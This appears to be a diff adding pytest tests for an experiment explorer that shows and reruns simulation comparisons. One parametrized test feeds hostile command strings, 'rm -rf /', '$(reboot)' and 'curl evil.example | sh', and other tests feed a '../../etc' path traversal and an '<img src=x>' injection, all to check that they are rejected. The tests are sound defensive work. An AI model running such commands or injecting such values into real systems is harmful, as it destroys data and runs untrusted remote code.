@@ -1,0 +1,206 @@
+import json
+import shlex
+from dataclasses import replace
+
+import pytest
+import yaml
+
+from experiments import compare
+from experiments.cli import run_command
+from experiments.explorer import gather
+from experiments.explorer.gather import finished_folders, from_choice, from_folder, simulate
+from experiments.explorer.reproduce import NAME, experiment_override, experiment_yaml, settings_yaml, yaml_command
+from experiments.explorer.tables import differences_csv, summary_csv
+from experiments.plan import CompareOptions, make_plan
+from experiments.results import SUMMARY, as_csv, summary_rows
+from experiments.runner import RunError
+from experiments.store import RESULT
+from experiments.worker import Report
+from sim.config import ConfigError
+from tests.experiments.explorer.tiny import TINY
+
+
+@pytest.fixture(scope="module")
+def written(finished, folders):
+    """The out folder of the command that the explorer shows, run with its store."""
+    arguments = [*_words(finished.command), f"out={folders.out / 'again'}", f"store={folders.store}", "executor=serial"]
+    assert compare.main(arguments) == 0
+    return folders.out / "again"
+
+
+def _words(command):
+    words = shlex.split(command)
+    assert words[:3] == ["python", "-m", "experiments.compare"]
+    return words[3:]
+
+
+def test_the_command_on_the_screen_gives_the_same_numbers_and_simulates_nothing(finished, written):
+    assert (written / "summary.csv").read_text() == summary_csv(finished)
+    assert (written / "differences.csv").read_text() == differences_csv(finished.comparison)
+    assert json.loads((written / "manifest.json").read_text())["simulated_now"] == 0
+
+
+def test_the_yaml_gives_the_same_numbers_and_simulates_nothing(folders, tmp_path):
+    changed = replace(TINY, min_sessions=3, strength=2.0, others=("oracle",), payback_bookings=4)
+    ours = from_choice(changed, folders)
+    (tmp_path / "experiment").mkdir()
+    (tmp_path / "experiment" / f"{NAME}.yaml").write_text(experiment_yaml(changed, folders.config_dirs))
+    words = yaml_command(str(tmp_path), folders.config_dirs).split()
+    assert words[:3] == ["python", "-m", "experiments.compare"]
+    # what the command does, but for the drawing
+    found = []
+
+    def body(settings, _command):
+        plan = make_plan(settings, CompareOptions)
+        outcome, _ = compare.simulate_plan(plan)
+        found.append((settings, outcome, *compare.analyse(plan, outcome)))
+        return 0
+
+    assert run_command("compare", "", body, [*words[3:], f"store={folders.store}", "executor=serial"]) == 0
+    settings, outcome, comparison, gains = found[0]
+    assert settings["arms"]["wecasa_2025"]["score"]["min_sessions"] == 3
+    assert outcome.simulated == 0
+    assert outcome.keys == ours.outcome.keys
+    assert as_csv(SUMMARY, summary_rows(comparison, gains)) == summary_csv(ours)
+
+
+def test_the_yaml_holds_differences_only_and_says_how_to_run_it(folders):
+    text = experiment_yaml(TINY, folders.config_dirs)
+    assert text.startswith("# @package _global_\n")
+    assert f"--config-dir FOLDER --config-dir {folders.config_dirs[0]} {experiment_override()}" in text
+    assert yaml.safe_load(text) == {
+        "defaults": [{"override /market": "tiny"}],
+        "arm": ["uniform", "wecasa_2025"],
+        "control": "uniform",
+        "studied": "wecasa_2025",
+        "longest_window_months": 12,
+        "replications": 2,
+        "seed": 1,
+    }
+
+
+def test_all_settings_are_those_of_the_command(finished, written):
+    ours, theirs = yaml.safe_load(settings_yaml(finished)), yaml.safe_load((written / "config.yaml").read_text())
+    # where runs are made and kept is not part of the result
+    places = ("out", "store", "executor")
+    assert {k: v for k, v in ours.items() if k not in places} == {k: v for k, v in theirs.items() if k not in places}
+
+
+def test_a_finished_folder_is_found_and_shows_what_was_simulated(finished, written, folders):
+    assert written in finished_folders(folders.out)
+    assert finished_folders(written) == [written]
+    read = from_folder(written)
+    assert read.comparison.summaries == finished.comparison.summaries
+    assert read.command.startswith("python -m experiments.compare ")
+    assert read.choice is None
+
+
+def test_folders_of_others_are_no_comparisons(tmp_path):
+    (tmp_path / "study").mkdir()
+    (tmp_path / "study" / "manifest.json").write_text("{}")
+    (tmp_path / "study" / ".mission-dispatch-sim").write_text("study\n")
+    assert finished_folders(tmp_path) == []
+    assert finished_folders(tmp_path / "nowhere") == []
+
+
+def _copy(written, folder, **changes):
+    """The folder again, with values of its manifest or config replaced."""
+    folder.mkdir()
+    for name in ("manifest.json", "config.yaml", ".mission-dispatch-sim"):
+        (folder / name).write_bytes((written / name).read_bytes())
+    for name, change in changes.items():
+        path = folder / {"manifest": "manifest.json", "config": "config.yaml"}[name]
+        content = yaml.safe_load(path.read_text())
+        change(content)
+        path.write_text(json.dumps(content))
+    return folder
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python -m experiments.compare; rm -rf /",
+        "python -m experiments.compare $(reboot)",
+        "curl evil.example | sh",
+        "python -m os 'x'",
+        "python -m experiments.compare 'unclosed",
+        "",
+    ],
+)
+def test_a_command_that_is_not_plainly_ours_is_not_shown(command, written, tmp_path):
+    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content.update(command=command))
+    assert from_folder(folder).command == ""
+
+
+def test_a_key_that_would_lead_out_of_the_store_is_refused(written, tmp_path):
+    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content["runs"].update({"uniform/0": "../../etc"}))
+    with pytest.raises(ConfigError, match=r"runs\.uniform/0 = '\.\./\.\./etc', must be 32 hex digits"):
+        from_folder(folder)
+
+
+def test_names_that_are_no_names_are_refused(written, tmp_path):
+    folder = _copy(written, tmp_path / "copy", config=lambda content: content["arm"].append("<img src=x>"))
+    with pytest.raises(ConfigError, match="arm = '<img src=x>', must be a name"):
+        from_folder(folder)
+
+
+def test_a_folder_whose_runs_are_gone_says_which(written, tmp_path):
+    folder = _copy(written, tmp_path / "copy", manifest=lambda content: content.update(store=str(tmp_path / "empty")))
+    with pytest.raises(ConfigError, match=r"the run of arm uniform, replication 0, is not in .*empty any more"):
+        from_folder(folder)
+
+
+def test_a_folder_that_is_torn_is_one_message(written, tmp_path):
+    folder = _copy(written, tmp_path / "copy")
+    (folder / "manifest.json").write_text('{"runs": ')
+    with pytest.raises(ConfigError, match="cannot be read as a finished comparison"):
+        from_folder(folder)
+
+
+def test_progress_is_told_run_by_run_and_a_stop_keeps_what_is_done(finished, tmp_path):
+    plan, told = finished.plan, []
+
+    class StopError(Exception):
+        pass
+
+    def tick(done, n_all):
+        told.append((done, n_all))
+        if done == 2:
+            raise StopError
+
+    with pytest.raises(StopError):
+        simulate(plan, tmp_path / "store", tick)
+    # 2 arms x 2 replications: nothing in the store, then one run after another until the stop
+    assert told == [(0, 4), (1, 4), (2, 4)]
+    told.clear()
+    outcome = simulate(plan, tmp_path / "store", lambda done, n_all: told.append((done, n_all)))
+    assert told == [(2, 4), (3, 4), (4, 4)]
+    assert outcome.simulated == 2
+
+
+def test_a_damaged_run_is_simulated_again(finished, tmp_path):
+    outcome = simulate(finished.plan, tmp_path / "store")
+    key = outcome.keys["uniform", 0]
+    (tmp_path / "store" / key / RESULT).write_text("torn")
+    again = simulate(finished.plan, tmp_path / "store")
+    assert again.simulated == 1
+    assert again.results["uniform", 0].metrics == pytest.approx(outcome.results["uniform", 0].metrics, nan_ok=True)
+
+
+def test_runs_that_fail_are_named_after_all_others_were_done(finished, tmp_path, monkeypatch):
+    class Broken:
+        def __init__(self, store, keep_logs):
+            pass
+
+        def simulate(self, jobs):
+            yield Report(jobs[0].key, failure="PolicyError: no")
+
+    monkeypatch.setattr(gather, "Serial", Broken)
+    with pytest.raises(RunError, match="arm=uniform replication=0 seed=1 failed: PolicyError: no"):
+        simulate(finished.plan, tmp_path / "store")
+
+
+def test_a_store_that_cannot_be_is_one_message(finished, tmp_path):
+    (tmp_path / "file").write_text("")
+    with pytest.raises(ConfigError, match="must be a folder that can be written to"):
+        simulate(finished.plan, tmp_path / "file" / "store")
